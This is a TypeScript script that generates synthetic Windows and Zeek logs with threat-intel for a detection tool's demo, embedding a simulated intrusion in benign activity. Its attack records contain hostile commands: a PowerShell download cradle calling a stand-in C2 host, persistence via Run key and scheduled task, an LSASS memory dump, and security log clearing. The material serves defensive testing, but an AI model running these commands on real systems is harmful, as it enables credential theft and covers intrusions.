/**
 * Writes the demo data set in examples/demo: one attack story (phishing → PowerShell
 * cradle → C2 beaconing → persistence → discovery → LSASS dump → lateral movement with an
 * admin account → log clearing) mixed with ordinary office activity, as NXLog-style
 * Windows JSON lines and Zeek TSV logs. Deterministic: the same output every run.
 *
 * Run: node --import tsx examples/generate-demo.ts
 * Attacker infrastructure uses documentation ranges (RFC 5737) and invented names; benign
 * traffic goes to well-known public services.
 */
import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';

const out = join(dirname(fileURLToPath(import.meta.url)), 'demo');
let seed = 20241105;
const random = () => {
  seed = (seed * 1103515245 + 12345) % 2147483648;
  return seed / 2147483648;
};
const pick = <T>(items: readonly T[]): T => items[Math.floor(random() * items.length)]!;

const domain = 'CORP';
const hosts = {
  victim: { name: 'WS-FIN-07.corp.example', ip: '10.10.20.37' },
  server: { name: 'SRV-FILE-02.corp.example', ip: '10.10.5.12' },
  dc: { name: 'DC01.corp.example', ip: '10.10.1.10' },
  others: [
    { name: 'WS-HR-03.corp.example', ip: '10.10.20.41' },
    { name: 'WS-DEV-11.corp.example', ip: '10.10.21.15' },
    { name: 'WS-FIN-02.corp.example', ip: '10.10.20.32' },
  ],
};
const c2 = { domain: 'update-check.cdn-delivery.example', ip: '203.0.113.66' };
const start = Date.UTC(2024, 10, 5, 9, 0, 0);
let recordNumber = 481_000;

interface WindowsRecord {
  time: number;
  host: string;
  channel: string;
  eventId: number;
  fields: Record<string, string | number>;
  message: string;
}
const windows: WindowsRecord[] = [];

function guid(): string {
  const hex = () => Math.floor(random() * 16).toString(16);
  const part = (length: number) => Array.from({ length }, hex).join('').toUpperCase();
  return `{${part(8)}-${part(4)}-${part(4)}-${part(4)}-${part(12)}}`;
}

const sysmon = 'Microsoft-Windows-Sysmon/Operational';
function processCreate(
  time: number,
  host: string,
  user: string,
  image: string,
  commandLine: string,
  parent: { image: string; commandLine: string; pid: number; guid: string },
  pid: number,
): { guid: string; pid: number; image: string; commandLine: string } {
  const processGuid = guid();
  windows.push({
    time,
    host,
    channel: sysmon,
    eventId: 1,
    fields: {
      UtcTime: '',
      ProcessGuid: processGuid,
      ProcessId: pid,
      Image: image,
      OriginalFileName: image.split('\\').pop()!.toUpperCase(),
      CommandLine: commandLine,
      CurrentDirectory: 'C:\\Windows\\system32\\',
      User: user,
      IntegrityLevel: 'Medium',
      Hashes: `SHA256=${Array.from({ length: 64 }, () => Math.floor(random() * 16).toString(16))
        .join('')
        .toUpperCase()}`,
      ParentProcessGuid: parent.guid,
      ParentProcessId: parent.pid,
      ParentImage: parent.image,
      ParentCommandLine: parent.commandLine,
    },
    message: `Process Create:\r\nImage: ${image}\r\nCommandLine: ${commandLine}`,
  });
  return { guid: processGuid, pid, image, commandLine };
}

const explorer = {
  image: 'C:\\Windows\\explorer.exe',
  commandLine: 'C:\\Windows\\Explorer.EXE',
  pid: 3120,
  guid: guid(),
};
const services = {
  image: 'C:\\Windows\\System32\\services.exe',
  commandLine: 'C:\\Windows\\system32\\services.exe',
  pid: 640,
  guid: guid(),
};
const victimUser = `${domain}\\j.doe`;
const adminUser = `${domain}\\adm-jdoe`;

// --- Benign background: office work on every host, all morning --------------------------------
const benignPrograms = [
  [
    'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
    '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer',
  ],
  [
    'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE',
    '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"',
  ],
  [
    'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE',
    '"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE" /dde',
  ],
  ['C:\\Windows\\System32\\notepad.exe', 'notepad.exe C:\\Users\\Public\\notes.txt'],
  ['C:\\Users\\Public\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe', 'Teams.exe --system-initiated'],
  ['C:\\Windows\\System32\\svchost.exe', 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule'],
  ['C:\\Windows\\System32\\taskhostw.exe', 'taskhostw.exe'],
] as const;
const staff = ['a.smith', 'b.jones', 'c.nguyen', 'j.doe', 'd.okafor'];
for (let index = 0; index < 150; index++) {
  const host = pick([hosts.victim, ...hosts.others, hosts.server]);
  const [image, commandLine] = pick(benignPrograms);
  processCreate(
    start + Math.floor(random() * 4 * 3600_000),
    host.name,
    `${domain}\\${pick(staff)}`,
    image,
    commandLine,
    explorer,
    4000 + Math.floor(random() * 4000),
  );
}
for (let index = 0; index < 40; index++) {
  const host = pick([hosts.dc, hosts.server]);
  const user = pick(staff);
  windows.push({
    time: start + Math.floor(random() * 4 * 3600_000),
    host: host.name,
    channel: 'Security',
    eventId: 4624,
    fields: {
      SubjectUserSid: 'S-1-0-0',
      TargetUserName: user,
      TargetDomainName: domain,
      TargetLogonId: `0x${Math.floor(random() * 0xffffff).toString(16)}`,
      LogonType: pick([3, 3, 3, 2]),
      LogonProcessName: 'Kerberos',
      AuthenticationPackageName: 'Kerberos',
      WorkstationName: '-',
      IpAddress: pick(hosts.others).ip,
      IpPort: '0',
    },
    message: `An account was successfully logged on.\r\nAccount Name: ${user}`,
  });
}

// --- The attack --------------------------------------------------------------------------------
const t = (minutes: number) => start + 72 * 60_000 + minutes * 60_000;
const outlook = processCreate(
  t(0),
  hosts.victim.name,
  victimUser,
  'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE',
  '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"',
  explorer,
  5120,
);
const word = processCreate(
  t(1),
  hosts.victim.name,
  victimUser,
  'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
  '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\j.doe\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q3R8\\Invoice_November.docm" /o ""',
  outlook,
  6240,
);
const cradle = `IEX (New-Object Net.WebClient).DownloadString('http://${c2.domain}/s/a.ps1')`;
const encoded = Buffer.from(cradle, 'utf16le').toString('base64');
const powershell = processCreate(
  t(1.5),
  hosts.victim.name,
  victimUser,
  'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
  `powershell.exe -NoP -W Hidden -Enc ${encoded}`,
  word,
  7788,
);
windows.push({
  time: t(1.6),
  host: hosts.victim.name,
  channel: 'Microsoft-Windows-PowerShell/Operational',
  eventId: 4104,
  fields: { MessageNumber: 1, MessageTotal: 1, ScriptBlockText: cradle, ScriptBlockId: guid().slice(1, -1), Path: '' },
  message: `Creating Scriptblock text (1 of 1):\r\n${cradle}`,
});
windows.push({
  time: t(1.7),
  host: hosts.victim.name,
  channel: sysmon,
  eventId: 22,
  fields: {
    ProcessGuid: powershell.guid,
    ProcessId: powershell.pid,
    QueryName: c2.domain,
    QueryStatus: '0',
    QueryResults: `::ffff:${c2.ip};`,
    Image: powershell.image,
  },
  message: `Dns query:\r\nQueryName: ${c2.domain}`,
});
windows.push({
  time: t(1.8),
  host: hosts.victim.name,
  channel: sysmon,
  eventId: 3,
  fields: {
    ProcessGuid: powershell.guid,
    ProcessId: powershell.pid,
    Image: powershell.image,
    User: victimUser,
    Protocol: 'tcp',
    Initiated: 'true',
    SourceIp: hosts.victim.ip,
    SourceHostname: hosts.victim.name,
    SourcePort: 50211,
    DestinationIp: c2.ip,
    DestinationHostname: c2.domain,
    DestinationPort: 443,
    DestinationPortName: 'https',
  },
  message: `Network connection detected:\r\nDestinationIp: ${c2.ip}`,
});
const implantPath = 'C:\\Users\\j.doe\\AppData\\Roaming\\Microsoft\\OneDriveUpdater.exe';
windows.push({
  time: t(3),
  host: hosts.victim.name,
  channel: sysmon,
  eventId: 11,
  fields: {
    ProcessGuid: powershell.guid,
    ProcessId: powershell.pid,
    Image: powershell.image,
    TargetFilename: implantPath,
    CreationUtcTime: '',
  },
  message: `File created:\r\nTargetFilename: ${implantPath}`,
});
processCreate(
  t(4),
  hosts.victim.name,
  victimUser,
  'C:\\Windows\\System32\\reg.exe',
  `reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v OneDriveUpdater /t REG_SZ /d "${implantPath}" /f`,
  powershell,
  8012,
);
windows.push({
  time: t(4.1),
  host: hosts.victim.name,
  channel: sysmon,
  eventId: 13,
  fields: {
    EventType: 'SetValue',
    ProcessGuid: guid(),
    ProcessId: 8012,
    Image: 'C:\\Windows\\System32\\reg.exe',
    TargetObject:
      'HKU\\S-1-5-21-3623811015-3361044348-30300820-1013\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveUpdater',
    Details: implantPath,
  },
  message: 'Registry value set',
});
processCreate(
  t(5),
  hosts.victim.name,
  victimUser,
  'C:\\Windows\\System32\\schtasks.exe',
  `schtasks.exe /Create /SC ONLOGON /TN "OneDrive Standalone Update" /TR "${implantPath}" /F`,
  powershell,
  8090,
);
for (const [minute, commandLine, image] of [
  [9, 'whoami /all', 'C:\\Windows\\System32\\whoami.exe'],
  [9.5, 'net group "Domain Admins" /domain', 'C:\\Windows\\System32\\net.exe'],
  [10, 'nltest /dclist:corp.example', 'C:\\Windows\\System32\\nltest.exe'],
  [10.5, 'ipconfig /all', 'C:\\Windows\\System32\\ipconfig.exe'],
  [11, 'net view \\\\SRV-FILE-02', 'C:\\Windows\\System32\\net.exe'],
  [11.5, 'net localgroup administrators', 'C:\\Windows\\System32\\net.exe'],
] as const) {
  processCreate(
    t(minute),
    hosts.victim.name,
    victimUser,
    image,
    commandLine,
    powershell,
    8200 + Math.floor(minute * 10),
  );
}
const lsassPid = 684;
const dumper = processCreate(
  t(18),
  hosts.victim.name,
  victimUser,
  'C:\\Windows\\System32\\rundll32.exe',
  `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump ${lsassPid} C:\\Users\\Public\\dbg.dmp full`,
  powershell,
  8444,
);
windows.push({
  time: t(18.05),
  host: hosts.victim.name,
  channel: sysmon,
  eventId: 10,
  fields: {
    SourceProcessGUID: dumper.guid,
    SourceProcessId: dumper.pid,
    SourceImage: dumper.image,
    TargetProcessGUID: guid(),
    TargetProcessId: lsassPid,
    TargetImage: 'C:\\Windows\\system32\\lsass.exe',
    GrantedAccess: '0x1FFFFF',
    CallTrace: 'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\comsvcs.dll+2b2a5',
    SourceUser: victimUser,
  },
  message: 'Process accessed:\r\nTargetImage: C:\\Windows\\system32\\lsass.exe',
});
windows.push({
  time: t(18.2),
  host: hosts.victim.name,
  channel: sysmon,
  eventId: 11,
  fields: {
    ProcessGuid: dumper.guid,
    ProcessId: dumper.pid,
    Image: dumper.image,
    TargetFilename: 'C:\\Users\\Public\\dbg.dmp',
    CreationUtcTime: '',
  },
  message: 'File created:\r\nTargetFilename: C:\\Users\\Public\\dbg.dmp',
});
// Lateral movement to the file server with the stolen admin account.
const logonId = '0x8a3f21';
windows.push({
  time: t(31),
  host: hosts.server.name,
  channel: 'Security',
  eventId: 4624,
  fields: {
    TargetUserName: 'adm-jdoe',
    TargetDomainName: domain,
    TargetLogonId: logonId,
    LogonType: 3,
    LogonProcessName: 'NtLmSsp',
    AuthenticationPackageName: 'NTLM',
    WorkstationName: 'WS-FIN-07',
    IpAddress: hosts.victim.ip,
    IpPort: '50944',
  },
  message: 'An account was successfully logged on.\r\nAccount Name: adm-jdoe',
});
windows.push({
  time: t(31.2),
  host: hosts.server.name,
  channel: 'Security',
  eventId: 4672,
  fields: {
    SubjectUserName: 'adm-jdoe',
    SubjectDomainName: domain,
    SubjectLogonId: logonId,
    PrivilegeList: 'SeDebugPrivilege\r\n\t\t\tSeBackupPrivilege',
  },
  message: 'Special privileges assigned to new logon.',
});
windows.push({
  time: t(31.5),
  host: hosts.server.name,
  channel: 'System',
  eventId: 7045,
  fields: {
    ServiceName: 'WinSvcUpd',
    ImagePath: '%COMSPEC% /c C:\\Windows\\Temp\\svcupd.exe',
    ServiceType: 'user mode service',
    StartType: 'demand start',
    AccountName: 'LocalSystem',
  },
  message: 'A service was installed in the system.\r\nService Name: WinSvcUpd',
});
processCreate(
  t(31.6),
  hosts.server.name,
  'NT AUTHORITY\\SYSTEM',
  'C:\\Windows\\System32\\cmd.exe',
  'C:\\Windows\\system32\\cmd.exe /c C:\\Windows\\Temp\\svcupd.exe',
  services,
  9120,
);
processCreate(
  t(40),
  hosts.server.name,
  adminUser,
  'C:\\Windows\\System32\\wevtutil.exe',
  'wevtutil.exe cl Security',
  { image: 'C:\\Windows\\System32\\cmd.exe', commandLine: 'cmd.exe', pid: 9120, guid: guid() },
  9300,
);
windows.push({
  time: t(40.1),
  host: hosts.server.name,
  channel: 'Security',
  eventId: 1102,
  fields: { SubjectUserName: 'adm-jdoe', SubjectDomainName: domain, SubjectLogonId: logonId },
  message: 'The audit log was cleared.',
});

// --- Write Windows events as NXLog JSON lines ---------------------------------------------------
const provider = (channel: string) =>
  channel === sysmon
    ? 'Microsoft-Windows-Sysmon'
    : channel === 'Security'
      ? 'Microsoft-Windows-Security-Auditing'
      : channel === 'System'
        ? 'Service Control Manager'
        : 'Microsoft-Windows-PowerShell';
const nxlogTime = (time: number) => new Date(time).toISOString().replace('T', ' ').slice(0, 19);
const lines = windows
  .sort((left, right) => left.time - right.time)
  .map((record) => {
    const fields = { ...record.fields };
    if ('UtcTime' in fields) fields.UtcTime = new Date(record.time).toISOString().replace('T', ' ').replace('Z', '');
    if ('CreationUtcTime' in fields)
      fields.CreationUtcTime = new Date(record.time).toISOString().replace('T', ' ').replace('Z', '');
    return JSON.stringify({
      EventTime: nxlogTime(record.time),
      Hostname: record.host,
      Keywords: -(2 ** 63),
      EventType: 'INFO',
      SeverityValue: 2,
      Severity: 'INFO',
      EventID: record.eventId,
      SourceName: provider(record.channel),
      Channel: record.channel,
      RecordNumber: recordNumber++,
      ...fields,
      Message: record.message,
      '@timestamp': new Date(record.time).toISOString(),
      SourceModuleName: 'eventlog',
      SourceModuleType: 'im_msvistalog',
    });
  });
// One record cut short by a crashed forwarder: Vigil must report it and keep the rest.
lines.splice(60, 0, lines[60]!.slice(0, 97));
mkdirSync(join(out, 'logs', 'windows'), { recursive: true });
writeFileSync(join(out, 'logs', 'windows', 'workstations.jsonl'), `${lines.join('\n')}\n`);

// --- Zeek conn and dns logs (TSV) ---------------------------------------------------------------
const zeekTime = (time: number) => (time / 1000).toFixed(6);
const uid = () =>
  `C${Array.from({ length: 17 }, () => pick('ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789'.split(''))).join('')}`;
function zeekLog(path: string, fields: string[], types: string[], rows: string[][]): string {
  const header = [
    '#separator \\x09',
    '#set_separator\t,',
    '#empty_field\t(empty)',
    '#unset_field\t-',
    `#path\t${path}`,
    `#open\t${new Date(start).toISOString().slice(0, 19).replace('T', '-').replaceAll(':', '-')}`,
    `#fields\t${fields.join('\t')}`,
    `#types\t${types.join('\t')}`,
  ];
  return `${[...header, ...rows.map((row) => row.join('\t')), `#close\t${new Date(start + 5 * 3600_000).toISOString().slice(0, 19).replace('T', '-').replaceAll(':', '-')}`].join('\n')}\n`;
}
const connRows: Array<[number, string[]]> = [];
const dnsRows: Array<[number, string[]]> = [];
const benignSites = [
  ['login.microsoftonline.com', '20.190.151.7'],
  ['outlook.office365.com', '52.97.146.162'],
  ['www.example.org', '93.184.215.14'],
  ['clients2.google.com', '142.250.185.78'],
  ['teams.microsoft.com', '52.113.194.132'],
] as const;
for (let index = 0; index < 90; index++) {
  const time = start + Math.floor(random() * 4 * 3600_000);
  const client = pick([hosts.victim, ...hosts.others]);
  const [name, address] = pick(benignSites);
  const port = 49152 + Math.floor(random() * 16000);
  dnsRows.push([
    time,
    [
      zeekTime(time),
      uid(),
      client.ip,
      String(port),
      hosts.dc.ip,
      '53',
      'udp',
      String(Math.floor(random() * 65535)),
      '0.012',
      name,
      '1',
      'C_INTERNET',
      '1',
      'A',
      '0',
      'NOERROR',
      'F',
      'F',
      'T',
      'T',
      '0',
      address,
      '300.000000',
      'F',
    ],
  ]);
  connRows.push([
    time + 50,
    [
      zeekTime(time + 50),
      uid(),
      client.ip,
      String(port + 1),
      address,
      '443',
      'tcp',
      'ssl',
      (random() * 30).toFixed(6),
      String(Math.floor(random() * 9000)),
      String(Math.floor(random() * 90000)),
      'SF',
      'T',
      'F',
      '0',
      'ShADadFf',
      '20',
      '2000',
      '40',
      '90000',
      '-',
    ],
  ]);
}
for (let index = 0; index < 30; index++) {
  const time = start + Math.floor(random() * 4 * 3600_000);
  const client = pick(hosts.others);
  connRows.push([
    time,
    [
      zeekTime(time),
      uid(),
      client.ip,
      String(49152 + index),
      hosts.server.ip,
      '445',
      'tcp',
      'smb',
      (random() * 5).toFixed(6),
      '2048',
      '65536',
      'SF',
      'T',
      'T',
      '0',
      'ShADadFf',
      '12',
      '2500',
      '60',
      '68000',
      '-',
    ],
  ]);
}
dnsRows.push([
  t(1.7),
  [
    zeekTime(t(1.7)),
    uid(),
    hosts.victim.ip,
    '61122',
    hosts.dc.ip,
    '53',
    'udp',
    '4242',
    '0.031',
    c2.domain,
    '1',
    'C_INTERNET',
    '1',
    'A',
    '0',
    'NOERROR',
    'F',
    'F',
    'T',
    'T',
    '0',
    c2.ip,
    '60.000000',
    'F',
  ],
]);
// The implant beacons every ~60 s (with jitter) for an hour.
for (let beat = 0; beat < 60; beat++) {
  const time = t(2 + beat) + Math.floor(random() * 4000);
  connRows.push([
    time,
    [
      zeekTime(time),
      uid(),
      hosts.victim.ip,
      String(50300 + beat),
      c2.ip,
      '443',
      'tcp',
      'ssl',
      (0.4 + random() * 0.2).toFixed(6),
      String(310 + Math.floor(random() * 40)),
      String(1290 + Math.floor(random() * 60)),
      'SF',
      'T',
      'F',
      '0',
      'ShADadFf',
      '8',
      '650',
      '7',
      '1650',
      '-',
    ],
  ]);
}
connRows.push([
  t(31),
  [
    zeekTime(t(31)),
    uid(),
    hosts.victim.ip,
    '50944',
    hosts.server.ip,
    '445',
    'tcp',
    'smb,dce_rpc',
    '12.500000',
    '18432',
    '9216',
    'SF',
    'T',
    'T',
    '0',
    'ShADadFf',
    '40',
    '20000',
    '38',
    '11000',
    '-',
  ],
]);
const ordered = (rows: Array<[number, string[]]>) =>
  rows.sort((left, right) => left[0] - right[0]).map(([, row]) => row);
mkdirSync(join(out, 'logs', 'zeek'), { recursive: true });
writeFileSync(
  join(out, 'logs', 'zeek', 'conn.log'),
  zeekLog(
    'conn',
    [
      'ts',
      'uid',
      'id.orig_h',
      'id.orig_p',
      'id.resp_h',
      'id.resp_p',
      'proto',
      'service',
      'duration',
      'orig_bytes',
      'resp_bytes',
      'conn_state',
      'local_orig',
      'local_resp',
      'missed_bytes',
      'history',
      'orig_pkts',
      'orig_ip_bytes',
      'resp_pkts',
      'resp_ip_bytes',
      'tunnel_parents',
    ],
    [
      'time',
      'string',
      'addr',
      'port',
      'addr',
      'port',
      'enum',
      'string',
      'interval',
      'count',
      'count',
      'string',
      'bool',
      'bool',
      'count',
      'string',
      'count',
      'count',
      'count',
      'count',
      'set[string]',
    ],
    ordered(connRows),
  ),
);
writeFileSync(
  join(out, 'logs', 'zeek', 'dns.log'),
  zeekLog(
    'dns',
    [
      'ts',
      'uid',
      'id.orig_h',
      'id.orig_p',
      'id.resp_h',
      'id.resp_p',
      'proto',
      'trans_id',
      'rtt',
      'query',
      'qclass',
      'qclass_name',
      'qtype',
      'qtype_name',
      'rcode',
      'rcode_name',
      'AA',
      'TC',
      'RD',
      'RA',
      'Z',
      'answers',
      'TTLs',
      'rejected',
    ],
    [
      'time',
      'string',
      'addr',
      'port',
      'addr',
      'port',
      'enum',
      'count',
      'interval',
      'string',
      'count',
      'string',
      'count',
      'string',
      'count',
      'string',
      'bool',
      'bool',
      'bool',
      'bool',
      'count',
      'vector[string]',
      'vector[interval]',
      'bool',
    ],
    ordered(dnsRows),
  ),
);

// --- Threat intelligence about the C2 (a STIX 2.1 bundle) and the asset inventory ----------------
const created = '2024-11-01T00:00:00.000Z';
const bundle = {
  type: 'bundle',
  id: 'bundle--5d0092c5-5f74-4287-9642-33f4c354e56d',
  objects: [
    {
      type: 'identity',
      spec_version: '2.1',
      id: 'identity--8c6af861-7b20-41ef-9b59-6344fd872a8f',
      created,
      modified: created,
      name: 'Demo sharing community',
      identity_class: 'organization',
    },
    {
      type: 'indicator',
      spec_version: '2.1',
      id: 'indicator--a932fcc6-e032-476c-826f-cb970a5a1ade',
      created,
      modified: created,
      created_by_ref: 'identity--8c6af861-7b20-41ef-9b59-6344fd872a8f',
      name: 'Loader C2 address',
      indicator_types: ['malicious-activity'],
      pattern: `[ipv4-addr:value = '${c2.ip}']`,
      pattern_type: 'stix',
      valid_from: created,
      confidence: 85,
    },
    {
      type: 'indicator',
      spec_version: '2.1',
      id: 'indicator--1ed8caa7-a708-4706-b651-f1186ede6ca1',
      created,
      modified: created,
      created_by_ref: 'identity--8c6af861-7b20-41ef-9b59-6344fd872a8f',
      name: 'Loader C2 domain',
      indicator_types: ['malicious-activity'],
      pattern: `[domain-name:value = '${c2.domain}']`,
      pattern_type: 'stix',
      valid_from: created,
      confidence: 80,
    },
  ],
};
mkdirSync(join(out, 'intel'), { recursive: true });
writeFileSync(join(out, 'intel', 'c2-indicators.json'), `${JSON.stringify(bundle, null, 2)}\n`);
writeFileSync(
  join(out, 'assets.yaml'),
  `# Asset inventory: criticality by host name (used by the reasoner's impact score).\nassets:\n  - host: DC01\n    criticality: critical\n    role: domain controller\n  - host: SRV-FILE-02\n    criticality: high\n    role: file server\n  - host: WS-FIN-07\n    criticality: medium\n    role: finance workstation\n`,
);
console.log(`windows: ${lines.length} lines, zeek conn: ${connRows.length}, zeek dns: ${dnsRows.length}`);
